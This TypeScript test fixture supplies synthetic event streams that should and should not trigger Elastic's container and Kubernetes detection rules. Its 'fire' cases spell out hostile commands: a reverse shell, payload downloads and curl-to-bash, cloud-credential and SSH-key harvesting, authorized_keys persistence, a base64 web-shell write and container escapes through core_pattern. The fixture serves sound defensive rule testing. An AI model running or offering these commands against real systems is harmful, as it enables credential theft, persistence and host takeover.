// Events written by us for Elastic's D4C rules: streams that must fire and streams that must not.
// Keyed by rule file name (without .toml). Each stream is fed in order to an engine holding only
// that rule. Built lazily so the event clock runs in the order the test feeds them.
import { audit, type Doc, exec, fileEv, patch, procEvent } from './helpers.fixture.js';

export interface RuleCase {
  fire: (() => Doc[])[];
  quiet: (() => Doc[])[];
}

const one = (f: () => Doc) => () => [f()];
const noContainer = (d: Doc): Doc => patch(d, { container: undefined });
const privileged = (d: Doc): Doc => patch(d, { container: { security_context: { privileged: true } } });

export const CASES: Record<string, RuleCase> = {
  command_and_control_curl_socks_proxy_detected_inside_container: {
    fire: [one(() => exec({ args: ['curl', '--socks5-hostname', '127.0.0.1:9050', 'http://x.example'] }))],
    quiet: [
      one(() => exec({ args: ['curl', 'http://x.example'] })),
      one(() => noContainer(exec({ args: ['curl', '-x', 'socks5://p:1080', 'http://x'] }))),
    ],
  },
  command_and_control_interactive_file_download_from_internet: {
    fire: [
      one(() => exec({ args: ['curl', '-o', '/tmp/x', 'http://e.example/x'] })),
      one(() => exec({ args: ['wget', '-qO', '/tmp/x', 'http://e.example/x'] })),
    ],
    quiet: [
      one(() => exec({ args: ['curl', 'http://e.example'] })),
      one(() => exec({ args: ['wget', '--spider', 'http://e'] })),
    ],
  },
  command_and_control_tunneling_and_port_forwarding: {
    fire: [
      one(() => exec({ args: ['ssh', '-L', '8080:10.0.0.1:80', 'jump'] })),
      one(() => exec({ args: ['relay', '10.1.2.3:8080:10.9.8.7:443'] })),
      // `:` is case-insensitive: CHISEL matches "chisel*".
      one(() => exec({ args: ['CHISEL_linux', 'client', 'x:1'] })),
      one(() => exec({ args: ['ssh', '-o', 'proxycommand=nc %h %p', 'host'] })),
    ],
    quiet: [
      one(() => exec({ args: ['ssh', 'host'] })),
      one(() => exec({ args: ['ssh', '-L', '1:2:3', 'chmod'] })),
      one(() => exec({ args: ['chiselx', 'server'], name: 'xchisel' })),
    ],
  },
  container_workload_protection: {
    fire: [one(() => patch(exec({ args: ['sh'] }), { event: { kind: 'alert' } }))],
    quiet: [
      one(() => exec({ args: ['sh'] })),
      one(() => patch(exec({ args: ['sh'] }), { event: { kind: 'alert', module: 'endpoint' } })),
    ],
  },
  credential_access_cloud_creds_search_inside_a_container: {
    fire: [
      one(() => exec({ args: ['grep', '-r', 'aws_secret_access_key', '/'] })),
      one(() => exec({ args: ['grep', '-r', 'AWS_SECRET_ACCESS_KEY', '/'] })),
      one(() =>
        exec({ args: ['sh', '/usr/bin/find', '/', '-name', 'application_default_credentials.json'] }),
      ),
    ],
    quiet: [
      one(() => exec({ args: ['grep', 'foo', '/app'] })),
      one(() => exec({ args: ['sh', 'find', 'which', '.aws/credentials'] })),
      one(() => noContainer(exec({ args: ['cat', '/root/.aws/credentials'] }))),
    ],
  },
  credential_access_collection_sensitive_files_compression_inside_a_container: {
    fire: [one(() => exec({ args: ['tar', 'czf', '/tmp/k.tgz', '/root/.ssh/id_rsa'] }))],
    quiet: [one(() => exec({ args: ['tar', 'czf', '/tmp/a.tgz', '/app'] }))],
  },
  credential_access_sensitive_keys_or_passwords_search_inside_a_container: {
    fire: [one(() => exec({ args: ['grep', '-ri', 'PASSWORD', '/etc'] }))],
    quiet: [
      one(() => exec({ args: ['grep', '-ri', 'hello', '/etc'] })),
      one(() => exec({ args: ['ls', 'password'] })),
    ],
  },
  credential_access_service_account_token_or_cert_read: {
    fire: [
      one(() => fileEv('open', '/var/run/secrets/kubernetes.io/serviceaccount/token')),
      one(() => exec({ args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] })),
    ],
    quiet: [
      one(() => fileEv('open', '/etc/passwd')),
      one(() => fileEv('creation', '/var/run/secrets/kubernetes.io/serviceaccount/token')),
      one(() => exec({ args: ['ls', '/var/run/secrets/kubernetes.io/serviceaccount/token'] })),
    ],
  },
  defense_evasion_decoded_payload_piped_to_interpreter: {
    fire: [
      () => [
        exec({ args: ['base64', '-d'], parent: { entity_id: 'P1' } }),
        exec({ args: ['bash'], parent: { entity_id: 'P1' } }, {}, 500),
      ],
    ],
    quiet: [
      () => [
        exec({ args: ['base64', '-d'], parent: { entity_id: 'P1' } }),
        exec({ args: ['bash'], parent: { entity_id: 'P1' } }, {}, 5000),
      ],
      () => [
        exec({ args: ['base64', '-d'], parent: { entity_id: 'P1' } }),
        exec({ args: ['bash'], parent: { entity_id: 'P2' } }),
      ],
      () => [
        exec({ args: ['bash'], parent: { entity_id: 'P1' } }),
        exec({ args: ['base64', '-d'], parent: { entity_id: 'P1' } }),
      ],
    ],
  },
  defense_evasion_deletion_of_shell_cmdline_history: {
    fire: [
      one(() => fileEv('deletion', '/root/.bash_history')),
      one(() => exec({ args: ['rm', '-f', '/root/.bash_history'] })),
      one(() => exec({ args: ['ln', '-sf', '/dev/null', '/root/.bash_history'] })),
    ],
    quiet: [
      one(() => fileEv('deletion', '/root/notes.txt')),
      one(() => exec({ args: ['cat', '/root/.bash_history'] })),
    ],
  },
  defense_evasion_file_creation_execution_deletion_cradle: {
    fire: [
      () => [
        fileEv('creation', '/tmp/payload', { args: ['curl', '-o', '/tmp/payload', 'http://e'] }),
        exec({ args: ['/tmp/payload'], parent: { name: 'sh' } }),
        fileEv('deletion', '/tmp/payload', { args: ['/tmp/payload'] }),
      ],
    ],
    quiet: [
      () => [
        fileEv('creation', '/tmp/payload', { args: ['curl', '-o', '/tmp/payload', 'http://e'] }),
        exec({ args: ['/tmp/payload'], parent: { name: 'sh' } }),
        fileEv('deletion', '/tmp/payload', { args: ['rm', '/tmp/payload'] }),
      ],
      () => [
        fileEv('creation', '/tmp/payload', { args: ['curl', '-o', '/tmp/payload', 'http://e'] }),
        exec({ args: ['/tmp/other'], parent: { name: 'sh' } }),
        fileEv('deletion', '/tmp/payload', { args: ['/tmp/other'] }),
      ],
    ],
  },
  defense_evasion_interactive_process_execution_from_suspicious_directory: {
    fire: [one(() => exec({ args: ['/tmp/evil'] })), one(() => exec({ args: ['/usr/bin/.x'] }))],
    quiet: [one(() => exec({ args: ['/usr/bin/ls'] }))],
  },
  defense_evasion_ld_preload_shared_object_modified_inside_a_container: {
    fire: [
      one(() => fileEv('creation', '/etc/ld.so.preload')),
      one(() => fileEv('open', '/etc/ld.so.conf.d/x.conf')),
    ],
    quiet: [one(() => fileEv('deletion', '/etc/ld.so.preload')), one(() => fileEv('open', '/etc/hosts'))],
  },
  defense_evasion_potential_evasion_via_encoded_payload: {
    fire: [one(() => exec({ args: ['base64', '-d'] })), one(() => exec({ args: ['xxd', '-r', '-p'] }))],
    quiet: [
      one(() => exec({ args: ['base64', 'file'] })),
      one(() => noContainer(exec({ args: ['base64', '-d'] }))),
    ],
  },
  discovery_dns_enumeration: {
    fire: [
      one(() => exec({ args: ['nslookup', 'kubernetes.default'] })),
      one(() => exec({ args: ['dig', 'api.default.SVC.cluster.local'] })),
      one(() => exec({ args: ['getent', 'hosts'] })),
    ],
    quiet: [one(() => exec({ args: ['nslookup', 'example.com'] }))],
  },
  discovery_environment_enumeration: {
    fire: [one(() => exec({ args: ['env'] })), one(() => exec({ args: ['sh', '/usr/bin/printenv'] }))],
    quiet: [one(() => exec({ args: ['ls'] })), one(() => exec({ args: ['sh', 'env', 'man'] }))],
  },
  discovery_kubelet_certificate_file_access: {
    fire: [
      one(() => fileEv('open', '/var/lib/kubelet/pki/kubelet.crt')),
      one(() => exec({ args: ['cat', '/var/lib/kubelet/pki/k.key'] })),
    ],
    quiet: [one(() => fileEv('open', '/var/lib/kubelet/config.yaml'))],
  },
  discovery_kubelet_pod_discovery_via_builtin_utilities: {
    fire: [() => Array.from({ length: 5 }, () => exec({ args: ['ls', '/var/lib/kubelet/pods/abc'] }))],
    quiet: [
      () => Array.from({ length: 4 }, () => exec({ args: ['ls', '/var/lib/kubelet/pods/abc'] })),
      () => Array.from({ length: 5 }, () => exec({ args: ['ls', '/var/lib/kubelet/pods/abc'] }, {}, 2000)),
    ],
  },
  discovery_potential_cluster_enumeration_via_jq: {
    fire: [one(() => exec({ args: ['jq', '.items'] }))],
    quiet: [
      one(() => noContainer(exec({ args: ['jq', '.'] }))),
      one(() => patch(exec({ args: ['jq'] }), { container: { id: '' } })),
    ],
  },
  discovery_privilege_boundary_enumeration_from_interactive_process: {
    fire: [one(() => exec({ args: ['id'] })), one(() => exec({ args: ['sh', '/usr/bin/capsh', '--print'] }))],
    quiet: [one(() => exec({ args: ['ls'] })), one(() => exec({ args: ['sh', 'id', 'man'] }))],
  },
  discovery_service_account_namespace_read: {
    fire: [
      one(() => fileEv('open', '/var/run/secrets/kubernetes.io/serviceaccount/namespace')),
      one(() => exec({ args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace'] })),
    ],
    quiet: [one(() => exec({ args: ['cat', '/etc/hostname'] }))],
  },
  discovery_suspicious_network_tool_launched_inside_a_container: {
    fire: [
      one(() => exec({ args: ['nmap', '-sS', '10.0.0.0/24'] })),
      one(() => exec({ args: ['nc', '10.0.0.1', '4444'] })),
    ],
    quiet: [one(() => exec({ args: ['nc', '-z', '10.0.0.1', '80'] })), one(() => exec({ args: ['ls'] }))],
  },
  discovery_tool_enumeration: {
    fire: [
      one(() => exec({ args: ['which', 'kubectl'] })),
      one(() => exec({ args: ['sh', 'which', 'gcc'] })),
    ],
    // `in` is exact: the rule's "cc1*" does not match cc1plus (no wildcards in `in`, as in Elasticsearch).
    quiet: [one(() => exec({ args: ['which', 'ls'] })), one(() => exec({ args: ['which', 'cc1plus'] }))],
  },
  execution_container_management_binary_launched_inside_a_container: {
    fire: [one(() => exec({ args: ['kubectl', 'get', 'pods'] }))],
    quiet: [
      one(() => exec({ args: ['kubectl', 'get', 'pods'], parent: { name: 'busybox' } })),
      one(() => exec({ args: ['crictl', 'ps'], parent: { executable: '/usr/bin/runc' } })),
    ],
  },
  execution_container_runtime_cli_suspicious_args: {
    fire: [
      one(() => exec({ args: ['ctr', 'tasks', 'exec', '--exec-id', 'x', 'c1', 'sh'] })),
      one(() => exec({ args: ['/tmp/x', '--address', '/run/containerd/containerd.sock'] })),
    ],
    quiet: [
      one(() => exec({ args: ['ctr', 'tasks', 'ls'] })),
      one(() => exec({ args: ['ctr', 'tasks', 'exec'], parent: { executable: '/usr/bin/kubelet' } })),
    ],
  },
  execution_direct_interactive_kubernetes_api_request: {
    fire: [
      one(() =>
        exec({ args: ['curl', '-k', '-H', 'Authorization: Bearer abc', 'https://kubernetes.default/api'] }),
      ),
      one(() => exec({ args: ['openssl', 's_client', '-connect', 'kubernetes:443'] })),
    ],
    quiet: [one(() => exec({ args: ['curl', '-H', 'Authorization: Bearer abc', 'https://x'] }))],
  },
  execution_interactive_exec_to_container: {
    fire: [one(() => exec({ args: ['bash'], entry_leader: { same_as_process: true } }))],
    quiet: [
      one(() => exec({ args: ['bash'] })),
      one(() => exec({ args: ['ls'], entry_leader: { same_as_process: true } })),
    ],
  },
  execution_interactive_file_creation_followed_by_execution: {
    fire: [() => [fileEv('creation', '/tmp/run.sh'), exec({ args: ['/tmp/run.sh'] })]],
    quiet: [
      () => [fileEv('creation', '/tmp/run.sh'), exec({ args: ['/tmp/other.sh'] })],
      () => [fileEv('creation', '/tmp/run.sh'), exec({ args: ['/tmp/run.sh'] }, {}, 4000)],
      () => [fileEv('creation', '/tmp/run.sh', { args: ['dpkg', '-i'] }), exec({ args: ['/tmp/run.sh'] })],
      () => [fileEv('creation', '/tmp/run.sh'), exec({ args: ['/tmp/run.sh'] }, { user: { id: '1000' } })],
    ],
  },
  execution_interactive_file_creation_in_system_binary_locations: {
    fire: [
      one(() =>
        fileEv('creation', '/usr/bin/kubectl', { args: ['curl', '-o', '/usr/bin/kubectl', 'http://e'] }),
      ),
    ],
    quiet: [one(() => fileEv('creation', '/usr/bin/kubectl', { args: ['cp', 'a', 'b'] }))],
  },
  execution_interactive_shell_spawned_from_inside_a_container: {
    fire: [one(() => exec({ args: ['bash', '-i'] }))],
    quiet: [
      one(() => exec({ args: ['bash', '-c', 'ls'] })),
      one(() => exec({ args: ['bash', '-i'], entry_leader: { same_as_process: true } })),
    ],
  },
  execution_kubeletctl_execution: {
    fire: [
      one(() => exec({ args: ['kubeletctl', 'pods'] })),
      one(() => exec({ args: ['x', '-s', '10.0.0.1', 'scan'] })),
    ],
    quiet: [one(() => exec({ args: ['kubectl', 'get', 'pods'] }))],
  },
  execution_netcat_listener_established_inside_a_container: {
    fire: [
      one(() => exec({ args: ['nc', '-lvnp', '4444'] })),
      one(() => exec({ args: ['ncat', '10.0.0.1', '4444', '-e', '/bin/sh'] })),
    ],
    quiet: [one(() => exec({ args: ['nc', '10.0.0.1', '80'] }))],
  },
  execution_payload_downloaded_and_piped_to_shell: {
    fire: [
      () => [
        exec({ args: ['curl', '-s', 'http://e/x.sh'], parent: { entity_id: 'P9' } }),
        procEvent('end', 'end', { args: ['bash'], parent: { entity_id: 'P9' } }, {}, 200),
      ],
    ],
    quiet: [
      () => [
        exec({ args: ['curl', '-s', 'http://e/x.sh'], parent: { entity_id: 'P9' } }),
        procEvent('end', 'end', { args: ['bash'], parent: { entity_id: 'P9' } }, {}, 1500),
      ],
    ],
  },
  execution_potential_direct_kubelet_access_via_process_args: {
    fire: [one(() => exec({ args: ['curl', '-k', 'https://10.0.0.5:10250/pods'] }))],
    quiet: [one(() => exec({ args: ['curl', '-k', 'https://10.0.0.5:6443/api'] }))],
  },
  execution_suspicious_file_made_executable_via_chmod_inside_a_container: {
    fire: [
      one(() => exec({ args: ['chmod', '+x', '/tmp/x'] })),
      one(() => exec({ args: ['sh', 'chmod', '777', '/tmp/x'] })),
    ],
    quiet: [
      one(() => exec({ args: ['chmod', '644', '/tmp/x'] })),
      one(() => exec({ args: ['chmod', '-x', '+x', '/tmp/x'] })),
    ],
  },
  execution_suspicious_interactive_interpreter_command_execution: {
    fire: [
      one(() =>
        exec({ args: ['python3', '-c', 'import os;os.system("id")'], executable: '/usr/bin/python3' }),
      ),
      one(() => exec({ args: ['php', '-r', 'SYSTEM("id");'], executable: '/usr/bin/php' })),
    ],
    quiet: [
      one(() => exec({ args: ['python3', '-c', 'print(1)'], executable: '/usr/bin/python3' })),
      one(() =>
        patch(exec({ args: ['python3', '-c', 'eval(x)'], executable: '/usr/bin/python3' }), {
          process: { parent: { executable: null } },
        }),
      ),
    ],
  },
  execution_tool_installation: {
    fire: [
      one(() => exec({ args: ['apt-get', 'install', '-y', 'curl'] })),
      one(() => exec({ args: ['apk', 'add', 'python3'] })),
    ],
    quiet: [
      one(() => exec({ args: ['apt-get', 'install', '-y', 'vim'] })),
      one(() => exec({ args: ['apk', 'del', 'curl'] })),
    ],
  },
  impact_process_killing: {
    fire: [
      one(() => exec({ args: ['kill', '-9', '1'] })),
      one(() => exec({ args: ['sh', 'pkill', 'nginx'] })),
    ],
    quiet: [one(() => exec({ args: ['ps', 'aux'] })), one(() => noContainer(exec({ args: ['kill', '1'] })))],
  },
  persistence_modification_of_persistence_relevant_files: {
    fire: [
      one(() => fileEv('creation', '/etc/cron.d/evil')),
      one(() => fileEv('open', '/etc/systemd/system/x.service')),
      one(() => fileEv('rename', '/root/.bashrc')),
    ],
    quiet: [
      one(() => fileEv('creation', '/etc/cron.d/pkg', { args: ['dpkg', '-i', 'x.deb'] })),
      one(() => fileEv('open', '/etc/systemd/system/x.conf')),
      one(() => fileEv('deletion', '/etc/crontab')),
    ],
  },
  persistence_ssh_authorized_keys_modification_inside_a_container: {
    fire: [
      one(() => fileEv('open', '/root/.ssh/authorized_keys')),
      one(() => fileEv('creation', '/home/u/.ssh/authorized_keys2')),
    ],
    quiet: [
      one(() => fileEv('deletion', '/root/.ssh/authorized_keys')),
      one(() => fileEv('open', '/root/.ssh/known_hosts')),
    ],
  },
  persistence_suspicious_echo_or_printf_execution: {
    fire: [one(() => exec({ args: ['sh', '-c', 'echo key >> /root/.ssh/authorized_keys'] }))],
    quiet: [one(() => exec({ args: ['sh', '-c', 'echo hello'] }))],
  },
  persistence_suspicious_webserver_child_process_execution: {
    fire: [
      one(() =>
        exec({
          args: ['sh', '-c', 'echo PD9waHA= | base64 -d > /var/www/html/s.php'],
          parent: { name: 'nginx', interactive: false },
        }),
      ),
    ],
    quiet: [
      one(() => exec({ args: ['sh', '-c', 'echo hi'], parent: { name: 'nginx', interactive: true } })),
      one(() =>
        exec({ args: ['sh', '-c', 'echo PD9 | base64 -d'], parent: { name: 'bash', interactive: false } }),
      ),
    ],
  },
  privilege_escalation_chroot_execution_detected_inside_container: {
    fire: [one(() => exec({ args: ['chroot', '/host', 'sh'] }))],
    quiet: [one(() => exec({ args: ['ls', '/host'] }))],
  },
  privilege_escalation_debugfs_launched_inside_a_privileged_container: {
    fire: [one(() => privileged(exec({ args: ['debugfs', '/dev/sda1'] })))],
    quiet: [
      one(() => exec({ args: ['debugfs', '/dev/sda1'] })),
      one(() => privileged(exec({ args: ['debugfs', '-R', 'ls', '/dev/sda1'] }))),
    ],
  },
  privilege_escalation_mount_launched_inside_a_privileged_container: {
    fire: [one(() => privileged(exec({ args: ['mount', '/dev/sda1', '/mnt'] })))],
    quiet: [one(() => exec({ args: ['mount', '/dev/sda1', '/mnt'] }))],
  },
  privilege_escalation_nsenter_execution_inside_container: {
    fire: [one(() => exec({ args: ['nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh'] }))],
    quiet: [one(() => exec({ args: ['nsenter', '--help'] }))],
  },
  privilege_escalation_potential_container_escape_via_modified_notify_on_release_file: {
    fire: [one(() => fileEv('open', '/sys/fs/cgroup/rdma/x/notify_on_release'))],
    quiet: [one(() => fileEv('creation', '/sys/fs/cgroup/rdma/x/notify_on_release'))],
  },
  privilege_escalation_potential_container_escape_via_modified_release_agent_file: {
    fire: [one(() => fileEv('open', '/sys/fs/cgroup/rdma/release_agent'))],
    quiet: [one(() => fileEv('open', '/sys/fs/cgroup/rdma/tasks'))],
  },
  privilege_escalation_unshare_namespace_manip: {
    fire: [one(() => exec({ args: ['unshare', '-r', 'sh'] }))],
    quiet: [
      one(() => exec({ args: ['unshare', '-r', 'sh'], parent: { executable: '/usr/bin/udevadm' } })),
      one(() => exec({ args: ['unshare', '--fork', '--kill-child', 'x'] })),
    ],
  },
  // multi_source
  command_and_control_kubectl_networking_modification: {
    fire: [one(() => exec({ args: ['kubectl', 'port-forward', 'svc/db', '5432:5432'] }))],
    quiet: [
      one(() => exec({ args: ['kubectl', 'get', 'pods'] })),
      one(() => exec({ args: ['kubectl', 'proxy'], parent: { name: 'containerd' } })),
    ],
  },
  defense_evasion_potential_kubectl_impersonation: {
    fire: [one(() => exec({ args: ['kubectl', '--as=system:admin', 'get', 'secrets'] }))],
    quiet: [one(() => exec({ args: ['kubectl', 'get', 'secrets'] }))],
  },
  defense_evasion_potential_kubectl_masquerading: {
    fire: [one(() => exec({ args: ['/tmp/kc', 'get pods -A'] }))],
    quiet: [
      one(() => exec({ args: ['/usr/bin/kubectl', 'get pods -A'] })),
      one(() => exec({ args: ['/tmp/newroot/kc', 'get pods'] })),
    ],
  },
  discovery_docker_socket_discovery: {
    fire: [
      one(() =>
        exec({ args: ['curl', '--unix-socket', '/var/run/docker.sock', 'http://x/containers/json'] }),
      ),
    ],
    quiet: [
      one(() => exec({ args: ['curl', 'http://x'] })),
      one(() =>
        exec({
          args: ['curl', '--unix-socket', '/run/docker.sock', 'x'],
          parent: { executable: '/usr/sbin/sshd' },
        }),
      ),
    ],
  },
  discovery_kubeconfig_file_discovery: {
    fire: [
      one(() => exec({ args: ['cat', '/root/.kube/config'] })),
      one(() => exec({ args: ['cat', 'admin.conf'], working_directory: '/etc/kubernetes' })),
    ],
    quiet: [
      one(() => exec({ args: ['stat', '/root/.kube/config'] })),
      one(() => exec({ args: ['cat', 'admin.conf'], working_directory: '/tmp' })),
    ],
  },
  discovery_kubectl_configuration_discovery: {
    fire: [one(() => exec({ args: ['kubectl', 'get', 'configmaps'] }))],
    quiet: [
      one(() => exec({ args: ['kubectl', 'get', 'pods'] })),
      one(() =>
        exec({
          args: ['kubectl', 'get', 'configmap'],
          parent: { args: ['/hooks/schedule_sync_configmap.sh'] },
        }),
      ),
    ],
  },
  discovery_kubectl_permission_discovery: {
    fire: [one(() => exec({ args: ['kubectl', 'auth', 'can-i', '--list'] }))],
    quiet: [one(() => exec({ args: ['kubectl', 'auth', 'whoami'] }))],
  },
  discovery_kubectl_secrets_all_namespaces: {
    fire: [one(() => exec({ args: ['kubectl', 'get', 'secrets', '-A'] }))],
    quiet: [one(() => exec({ args: ['kubectl', 'get', 'secrets'] }))],
  },
  discovery_kubectl_workload_and_cluster_discovery: {
    fire: [
      one(() => exec({ args: ['kubectl', 'get', 'nodes'] })),
      one(() => exec({ args: ['kubectl', 'cluster-info'] })),
    ],
    quiet: [one(() => exec({ args: ['kubectl', 'apply', '-f', 'x.yaml'] }))],
  },
  execution_d4c_k8s_mda_direct_interactive_kubernetes_api_request_by_usual_utilities: {
    fire: [() => [exec({ args: ['curl', 'https://kubernetes.default/api'] }), audit('web-0', {}, 300)]],
    quiet: [
      () => [exec({ args: ['curl', 'https://kubernetes.default/api'] }), audit('other-pod', {}, 300)],
      () => [exec({ args: ['curl', 'https://kubernetes.default/api'] }), audit('web-0', {}, 1500)],
      () => [exec({ args: ['curl', 'https://kubernetes.default/api'], interactive: false }), audit('web-0')],
    ],
  },
  execution_d4c_k8s_mda_forbidden_direct_interactive_kubernetes_api_request: {
    fire: [
      () => [
        exec({ args: ['kubectl', 'get', 'secrets'] }),
        audit('web-0', {
          kubernetes: {
            audit: {
              stage: 'ResponseComplete',
              user: { extra: { 'authentication.kubernetes.io/pod-name': ['web-0'] } },
              annotations: { 'authorization_k8s_io/decision': 'forbid' },
            },
          },
        }),
      ],
    ],
    quiet: [() => [exec({ args: ['kubectl', 'get', 'secrets'] }), audit('web-0')]],
  },
  execution_d4c_k8s_mda_kubernetes_api_activity_by_unusual_utilities: {
    fire: [() => [exec({ args: ['python3', 'k8s.py'] }), audit('web-0')]],
    quiet: [() => [exec({ args: ['curl', 'https://kubernetes.default'] }), audit('web-0')]],
  },
  execution_d4c_k8s_mda_service_account_token_access_followed_by_kubernetes_api_request: {
    fire: [
      () => [
        fileEv('open', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
        audit('web-0', {}, 30_000),
      ],
    ],
    quiet: [
      () => [
        fileEv('open', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
        audit('web-0', {}, 61_000),
      ],
    ],
  },
  execution_kubectl_apply_pod_from_url: {
    fire: [one(() => exec({ args: ['kubectl', 'apply', '-f', 'https://evil.example/pod.yaml'] }))],
    quiet: [
      one(() => exec({ args: ['kubectl', 'apply', '-f', 'pod.yaml'] })),
      one(() => exec({ args: ['kubectl', 'apply', '-f', 'https://DOWNLOAD.elastic.co/x.yaml'] })),
    ],
  },
  execution_kubernetes_direct_api_request_via_curl_or_wget: {
    fire: [one(() => exec({ args: ['curl', 'x'], command_line: 'curl -k https://10.0.0.1/api/v1/secrets' }))],
    quiet: [
      one(() => exec({ args: ['curl', 'x'], command_line: 'curl https://example.com/' })),
      one(() => exec({ args: ['curl', 'https://10.0.0.1/api/v1/secrets'] })),
    ],
  },
  lateral_movement_kubeconfig_file_activity: {
    fire: [one(() => fileEv('open', '/root/.kube/config', { args: ['vi', '/root/.kube/config'] }))],
    quiet: [
      one(() => fileEv('deletion', '/root/.kube/config')),
      one(() => fileEv('open', '/root/.kube/config', { args: ['/usr/local/bin/kubectl', 'config'] })),
    ],
  },
  persistence_kubernetes_sensitive_file_activity: {
    fire: [one(() => fileEv('creation', '/etc/kubernetes/manifests/evil.yaml'))],
    quiet: [
      one(() => fileEv('creation', '/etc/kubernetes/manifests/x.yaml', { args: ['kubelet'] })),
      one(() => fileEv('open', '/etc/kubernetes/manifests/.x.swp', { args: ['vim'] })),
    ],
  },
  privilege_escalation_container_escape_via_kernel_core_pattern: {
    fire: [one(() => exec({ args: ['sh', '-c', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern'] }))],
    quiet: [
      one(() => exec({ args: ['cat', '/proc/sys/kernel/core_pattern'] })),
      one(() =>
        patch(exec({ args: ['tee', '/proc/sys/kernel/core_pattern'] }), {
          process: { parent: { executable: '/usr/bin/apport' } },
        }),
      ),
    ],
  },
};
